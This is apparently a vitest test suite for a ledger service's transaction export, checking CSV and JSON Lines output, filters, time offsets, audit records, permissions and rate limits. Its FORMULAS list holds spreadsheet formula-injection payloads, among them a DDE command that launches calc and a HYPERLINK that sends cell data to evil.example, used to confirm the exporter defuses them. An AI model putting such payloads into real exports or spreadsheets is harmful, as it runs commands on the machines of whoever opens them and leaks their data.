import { request } from 'node:http';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { Input } from '../../../src/core/contract/operations.ts';
import { parseAmount, type Currency } from '../../../src/core/money.ts';
import { csvLine, csvText } from '../../../src/service/exports/csv.ts';
import { timesAt } from '../../../src/service/exports/times.ts';
import { exportTransactions } from '../../../src/service/ledger/export-transactions/export-transactions.ts';
import { recordsAbout } from '../../../src/service/store/audit-log.ts';
import { recordsOf, rowsOf } from '../../csv-records.ts';
import { eachEngine, openHarness, type Harness, type Holder } from '../../harness.ts';
import { audit, balanceOf, fund, person, refusalOf, send, quote, pay } from '../money/wallet.ts';

type Asked = Partial<Input<'export-transactions'>>;

const BLNS = join(import.meta.dirname, '../../../../shared/data/bad-input/strings/blns_even.json');
/** What a spreadsheet would run, or would part into cells of its own. */
const FORMULAS = [
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '@SUM(1+1)*cmd',
  '+1+1',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  'a;=1+1',
  'a|@x',
  '",=1+1,"',
  '"\r\n=1+1',
  "'=1+1",
];
const STRANGE = [
  'Zoë Straße 李 العربية 👩‍👩‍👧‍👦',
  '\u202egnp.exe',
  '\u001b[31mred\u0007',
  '\u2028line\u2029paragraph',
  'a "quoted", and parted; text',
  'می‌خواهم',
  ...(existsSync(BLNS) ? (JSON.parse(readFileSync(BLNS, 'utf8')) as string[]) : []),
].filter((text) => text !== '' && text.length <= 100 && text.isWellFormed() && !text.includes('\0'));

const HEADER =
  'transfer,at,kind,direction,amount,currency,balance_after,from,from_name,to,to_name,paid,paid_currency,fee,received,received_currency,rate,note,quote,initiator,details';

/** Cells that a spreadsheet could take for a formula, or that could write on a terminal. */
function dangerous(text: string, except: readonly number[] = []): string[] {
  return recordsOf(text).flatMap((record) =>
    record.filter((cell, at) => {
      if (except.includes(at)) return !/^(-?\d+(\.\d+)?)?$/.test(cell);
      const parts = cell.split(/[;|\t]/);
      return (
        /[\p{Cc}\u202a-\u202e\u2066-\u2069]/u.test(cell) ||
        parts.some((part) => /^\s*[=+\-@＝＋－＠]/.test(part))
      );
    }),
  );
}
/** `amount`, `balance_after`, `paid`, `fee`, `received` are numbers to a spreadsheet. */
const AMOUNTS = [4, 6, 11, 13, 14];

const minorOf = (amount = '', currency = 'EUR') => {
  const { minor } = parseAmount(amount.replace(/^-/, ''), currency as Currency);
  return amount.startsWith('-') ? -minor : minor;
};

eachEngine((engine) => {
  let harness: Harness;
  let senior: Holder;
  let alice: Holder;
  let bob: Holder;
  beforeEach(async () => {
    harness = await openHarness({ engine });
    senior = await person(harness, 'sam', 'senior');
    [alice, bob] = [await person(harness, 'alice'), await person(harness, 'bob')];
  });
  afterEach(async () => {
    await audit(harness);
    await harness.close();
  });

  const exported = async (input: Asked = {}, who: Holder = senior): Promise<string> => {
    const pieces = await who.client.stream('export-transactions', {
      format: 'csv',
      reason: 'Case 17',
      ...input,
    });
    let text = '';
    for await (const piece of pieces) text += piece;
    return text;
  };
  const records = (subject: string) => recordsAbout(harness.service.deps.engine, subject, { limit: 100 });

  /** Money and fees in three currencies, some of it back and forth. */
  const someHistory = async (): Promise<void> => {
    const { client } = await person(harness, 'ada', 'admin');
    await client.call('set-fee', { kind: 'transfer', currency: 'EUR', basisPoints: 150 });
    for (const currency of ['EUR', 'JPY', 'KWD'] as const) await fund(harness, alice, '5000', currency);
    const script = fc.sample(
      fc.record({
        currency: fc.constantFrom('EUR', 'JPY', 'KWD'),
        back: fc.boolean(),
        amount: fc.integer({ min: 1, max: 99 }),
        pauseMs: fc.constantFrom(0, 1, 61_000),
      }),
      { numRuns: 40, seed: 20261126 },
    );
    for (const { currency, back, amount, pauseMs } of script) {
      harness.clock.advance(pauseMs);
      const [from, to] = back ? [bob, alice] : [alice, bob];
      await send(from, to.email, `${amount} ${currency}`).catch(() => undefined);
    }
  };

  describe('transactions of all', () => {
    test('are one line for each transfer under a header that never changes, with the figures of the ledger', async () => {
      await someHistory();
      const text = await exported();
      expect(text.slice(0, text.indexOf('\r\n'))).toBe(HEADER);
      const rows = rowsOf(text);
      const { client: viewer } = await person(harness, 'vera', 'viewer');
      const { transfers } = await viewer.call('verify-ledger', {});
      expect(rows).toHaveLength(transfers);
      expect(rows.map(({ transfer }) => transfer)).toEqual(rows.map(({ transfer }) => transfer).sort());
      for (const row of rows) {
        const shown = await (
          row['from'] === alice.id ? alice : row['to'] === alice.id ? alice : bob
        ).client.call('get-transfer', { transfer: row['transfer'] ?? '' });
        expect(row).toMatchObject({
          at: shown.at,
          kind: shown.kind,
          from: shown.from.id ?? 'clearing:TEST:' + shown.paid.currency,
          from_name: shown.from.name,
          to: shown.to.id,
          to_name: shown.to.name,
          paid: shown.paid.amount,
          paid_currency: shown.paid.currency,
          fee: shown.fee.amount,
          received: shown.received.amount,
          received_currency: shown.received.currency,
          rate: '',
          direction: '',
          amount: '',
          currency: '',
          balance_after: '',
        });
      }
      expect(rows.some(({ fee }) => Number(fee) > 0)).toBe(true);
    });

    test('go on over any number of pages, each transfer once', async () => {
      const ids = new Set<string>();
      for (let at = 0; at < 450; at++) ids.add(await fund(harness, at % 2 === 0 ? alice : bob, '1'));
      const rows = rowsOf(await exported());
      expect(rows).toHaveLength(450);
      expect(new Set(rows.map(({ transfer }) => transfer))).toEqual(ids);
    });

    test('of a book in which nothing happened are the header', async () => {
      expect(await exported()).toBe(`${HEADER}\r\n`);
      expect(await exported({ format: 'jsonl' })).toBe('');
    });
  });

  describe('transactions of one holder', () => {
    test('come to the balance of each account, and say after each what it was', async () => {
      await someHistory();
      for (const holder of [alice, bob]) {
        const rows = rowsOf(await exported({ holder: holder.id }));
        for (const currency of ['EUR', 'JPY', 'KWD'] as const) {
          const own = rows.filter((row) => row['currency'] === currency);
          let balance = 0n;
          for (const row of own) {
            balance += minorOf(row['amount'], currency);
            expect(minorOf(row['balance_after'], currency)).toBe(balance);
            expect(row['direction']).toBe(row['amount']?.startsWith('-') ? 'out' : 'in');
          }
          const [shown = ''] = (await balanceOf(holder, currency)).split(' ');
          expect(balance).toBe(minorOf(shown, currency));
          expect(own.length).toBeGreaterThan(1);
        }
      }
    });

    test('are what the holder sees, and nothing of anybody else', async () => {
      await someHistory();
      const carol = await person(harness, 'carol');
      await fund(harness, carol, '3');
      await send(carol, bob.email, '1 EUR');
      const rows = rowsOf(await exported({ holder: alice.email }));
      const seen = [];
      for (let cursor: string | undefined; ;) {
        const page = await alice.client.call('list-transfers', { limit: 100, ...(cursor ? { cursor } : {}) });
        seen.push(...page.transfers.map(({ id }) => id));
        cursor = page.nextCursor;
        if (cursor === undefined) break;
      }
      expect(rows.map(({ transfer }) => transfer).sort()).toEqual(seen.sort());
      expect(rows.some((row) => Object.values(row).some((cell) => cell.includes('Carol')))).toBe(false);
    });

    test('are found by id, e-mail address and phone, and not when there is nobody', async () => {
      await fund(harness, alice, '3');
      await harness.service.deps.engine.transact((tx) =>
        tx.run('UPDATE users SET phone = ? WHERE id = ?', ['+4915112345678', alice.id]),
      );
      const byId = await exported({ holder: alice.id });
      expect(recordsOf(byId)).toHaveLength(2);
      expect(await exported({ holder: 'Alice@Example.com' })).toBe(byId);
      expect(await exported({ holder: '+4915112345678' })).toBe(byId);
      for (const holder of ['nobody@example.com', '+4999999999999', `usr_${'0'.repeat(26)}`])
        await refusalOf(exported({ holder }), 'not_found');
    });
  });

  describe('filters', () => {
    test('take in the first instant and leave out the last', async () => {
      const start = harness.clock.now();
      const ids: string[] = [];
      for (let at = 0; at < 3; at++) {
        ids.push(await fund(harness, alice, '1'));
        harness.clock.advance(1);
      }
      const at = (ms: number) => new Date(start + ms).toISOString();
      const found = async (input: Asked) => rowsOf(await exported(input)).map(({ transfer }) => transfer);
      for (const holder of [{}, { holder: alice.id }]) {
        expect(await found({ ...holder, since: at(1) })).toEqual(ids.slice(1));
        expect(await found({ ...holder, until: at(2) })).toEqual(ids.slice(0, 2));
        expect(await found({ ...holder, since: at(1), until: at(2) })).toEqual(ids.slice(1, 2));
        expect(await found({ ...holder, since: at(3) })).toEqual([]);
      }
      const elsewhere = `${new Date(start + 1 + 3_600_000).toISOString().slice(0, -1)}+01:00`;
      expect(await found({ since: elsewhere })).toEqual(ids.slice(1));
      await refusalOf(exported({ since: at(1), until: at(1) }), 'input_invalid');
      await refusalOf(exported({ since: at(2), until: at(1) }), 'input_invalid');
      await refusalOf(exported({ since: 'yesterday' }), 'input_invalid');
    });

    test('find a time after a clock that went back, whatever the ids say', async () => {
      harness.clock.advance(3_600_000);
      await fund(harness, alice, '1');
      harness.clock.advance(-3_600_000);
      const late = await fund(harness, alice, '2');
      const rows = rowsOf(await exported({ until: new Date(harness.clock.now() + 1).toISOString() }));
      expect(rows.map(({ transfer }) => transfer)).toEqual([late]);
    });

    test('know currencies', async () => {
      await fund(harness, alice, '1', 'EUR');
      const yen = await fund(harness, alice, '100', 'JPY');
      for (const holder of [{}, { holder: alice.id }]) {
        const rows = rowsOf(await exported({ ...holder, currency: 'jpy' }));
        expect(rows.map(({ transfer, paid }) => [transfer, paid])).toEqual([[yen, '100']]);
        expect(rowsOf(await exported({ ...holder, currency: 'KWD' }))).toEqual([]);
      }
      await refusalOf(exported({ currency: 'XXX' }), 'currency_unknown');
    });
  });

  describe('times', () => {
    test('are the same instants at any offset, all through the year', async () => {
      const instants = ['2026-03-29T00:59:59.999Z', '2026-03-29T01:00:00.000Z', '2026-12-31T23:30:00.000Z'];
      harness.clock.advance(Date.parse('2026-03-29T00:00:00.000Z') - harness.clock.now());
      for (const instant of instants) {
        harness.clock.advance(Date.parse(instant) - harness.clock.now());
        await fund(harness, alice, '1');
      }
      const late = await person(harness, 'late', 'senior');
      for (const offset of ['+02:00', '-03:30', '+14:00', '+00:00', '-12:00']) {
        const times = rowsOf(await exported({ offset }, late)).map(({ at = '' }) => at);
        expect(times.map((at) => new Date(at).toISOString())).toEqual(instants);
        for (const at of times) expect(at.endsWith(offset)).toBe(true);
      }
      expect(rowsOf(await exported({}, late)).map(({ at }) => at)).toEqual(instants);
      expect(rowsOf(await exported({ offset: '+02:00' }, late))[2]?.['at']).toBe(
        '2027-01-01T01:30:00.000+02:00',
      );
      for (const offset of [
        '+2',
        '02:00',
        '+02:60',
        '+14:01',
        '+15:00',
        '-00:00',
        'Z',
        'Europe/Berlin',
        '+02:00\n',
      ])
        await refusalOf(exported({ offset }, late), 'input_invalid');
    });
  });

  describe('what other people wrote', () => {
    test('is no formula and no escape, in names and notes; amounts stay numbers (ASVS V1.2.10)', async () => {
      await fund(harness, alice, '100');
      const { deps } = harness.service;
      for (const [at, text] of FORMULAS.entries()) {
        const named = await person(harness, `payee${at}`);
        await deps.engine.transact((tx) =>
          tx.run('UPDATE users SET display_name = ? WHERE id = ?', [text, named.id]),
        );
        await pay(alice, await quote(alice, named.email, '1 EUR'), { note: text });
      }
      const text = await exported({ holder: alice.id });
      expect(rowsOf(text)).toHaveLength(FORMULAS.length + 1);
      expect(dangerous(text, AMOUNTS)).toEqual(['amount', 'balance_after', 'paid', 'fee', 'received']);
      expect(dangerous(await exported({ offset: '-03:30' }), AMOUNTS)).toHaveLength(AMOUNTS.length);
      // The control: the same texts with nothing done to them.
      const raw = FORMULAS.map((each) => csvLine([`"${each.replaceAll('"', '""')}"`])).join('');
      expect(dangerous(raw)).toHaveLength(FORMULAS.length - 2);
      // The JSON Lines have every note as it was.
      const notes = (await exported({ holder: alice.id, format: 'jsonl' }))
        .trimEnd()
        .split('\n')
        .map((line) => (JSON.parse(line) as { note?: string }).note)
        .filter((note) => note !== undefined);
      expect(notes.sort()).toEqual(FORMULAS.toSorted());
    });

    test('comes through in any script, and JSON Lines have it exactly', async () => {
      await fund(harness, alice, '1000');
      for (const note of STRANGE) await pay(alice, await quote(alice, bob.email, '0.01 EUR'), { note });
      const lines = (await exported({ holder: bob.id, format: 'jsonl' })).trimEnd().split('\n');
      expect(lines.map((line) => (JSON.parse(line) as { note: string }).note)).toEqual(STRANGE);
      const rows = rowsOf(await exported({ holder: bob.id }));
      expect(rows).toHaveLength(STRANGE.length);
      expect(rows[0]?.['note']).toBe(STRANGE[0]);
    });
  });

  describe('the stream', () => {
    test('shows the moment it began: a payment made meanwhile is not in it', async () => {
      for (let at = 0; at < 250; at++) await fund(harness, alice, '1');
      const pieces = await senior.client.stream('export-transactions', { format: 'csv', reason: 'Case 17' });
      let text = '';
      let late: string | undefined;
      for await (const piece of pieces) {
        text += piece;
        late ??= await fund(harness, alice, '7');
      }
      expect(rowsOf(text)).toHaveLength(250);
      expect(text).not.toContain(late);
      expect(await exported()).toContain(late);
      // The control: read from the database itself, the payment is in it.
      let live = '';
      let later: string | undefined;
      for await (const piece of exportTransactions(harness.service.deps.engine, {}, { format: 'csv' })) {
        live += piece;
        later ??= await fund(harness, alice, '7');
      }
      expect(live).toContain(later);
    });

    test('lets two read at once, each for itself', async () => {
      for (let at = 0; at < 450; at++) await fund(harness, at % 2 === 0 ? alice : bob, '1');
      const whole = await exported();
      const other = await person(harness, 'sue', 'senior');
      const both = await Promise.all([exported(), exported({}, other), exported({ holder: bob.id })]);
      expect(both.slice(0, 2)).toEqual([whole, whole]);
      expect(rowsOf(both[2])).toHaveLength(225);
    });
  });

  describe('the record', () => {
    test('is there before the first byte, with who, whose, why and what', async () => {
      await senior.client.stream('export-transactions', {
        format: 'jsonl',
        holder: bob.email,
        currency: 'eur',
        since: '2026-01-01T00:00:00+01:00',
        reason: 'Police request 4711',
      });
      expect(await records(bob.id)).toMatchObject([
        {
          action: 'transactions-exported',
          actor: senior.id,
          actorRole: 'senior',
          subject: bob.id,
          reason: 'Police request 4711',
          facts: JSON.stringify({ format: 'jsonl', currency: 'EUR', since: '2025-12-31T23:00:00.000Z' }),
        },
      ]);
    });

    test('stays when whoever asked hangs up, and nothing is left open', async () => {
      for (let at = 0; at < 1_000; at++) await fund(harness, alice, '1');
      const { url } = await harness.serve();
      const body = JSON.stringify({ format: 'jsonl', reason: 'Cut' });
      await new Promise<void>((resolve, reject) => {
        const asked = request(`${url}/v1/admin/exports/transactions`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', authorization: `Bearer ${senior.token}` },
        });
        asked.on('response', (response) => {
          response.once('data', () => response.destroy());
          response.once('close', resolve);
        });
        asked.on('error', reject).end(body);
      });
      expect(await records(senior.id)).toMatchObject([{ action: 'transactions-exported', reason: 'Cut' }]);
      expect(harness.logged.map(({ event }) => event)).not.toContain('unexpected');
      // Four at once are all that PostgreSQL lets begin: one that stayed open would be one less.
      for (let at = 0; at < 5; at++) expect(recordsOf(await exported())).toHaveLength(1_001);
    });

    test('is not there for who may not: viewer, support, a holder, nobody', async () => {
      for (const role of ['viewer', 'support', null]) {
        const who = await person(harness, `x${role}`, role);
        await refusalOf(exported({ holder: bob.id }, who), 'role_insufficient');
      }
      const nobody = { ...senior, client: harness.client() };
      await refusalOf(exported({ holder: bob.id }, nobody), 'session_required');
      expect(await records(bob.id)).toEqual([]);
    });

    test('takes a reason', async () => {
      for (const reason of [undefined, '', 'x'.repeat(201)])
        await refusalOf(exported({ reason: reason as string, holder: bob.id }), 'input_invalid');
      expect(await records(bob.id)).toEqual([]);
    });
  });

  test('nobody takes out more than sixty exports in an hour (ASVS V2.4.1, V15.2.2)', async () => {
    for (let at = 0; at < 60; at++) {
      await exported();
      harness.clock.advance(1_000);
    }
    const { facts } = await refusalOf(exported(), 'too_many_attempts');
    expect(facts).toEqual({ retryAfter: '3540' });
    await refusalOf(
      senior.client.stream('export-journal', { format: 'csv', reason: 'x' }),
      'too_many_attempts',
    );
    const other = await person(harness, 'sue', 'senior');
    expect(await exported({}, other)).toBe(`${HEADER}\r\n`);
    // In steps, as a session of staff ends when it is not used.
    for (let at = 0; at < 3; at++) {
      await refusalOf(exported(), 'too_many_attempts');
      harness.clock.advance(1_180_000);
    }
    expect(await exported()).toBe(`${HEADER}\r\n`);
  });
});

test('a cell is one field of one record, whatever is in it', () => {
  const text = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...FORMULAS, ...STRANGE));
  fc.assert(
    fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (texts) => {
      const cells = texts.map(csvText);
      expect(recordsOf(csvLine(cells))[0]).toHaveLength(cells.length);
      expect(dangerous(csvLine(cells))).toEqual([]);
    }),
    { numRuns: 2_000 },
  );
});

test('times without an offset are as they are stored', () => {
  expect(timesAt(undefined)('2026-11-26T00:00:00.000Z')).toBe('2026-11-26T00:00:00.000Z');
});
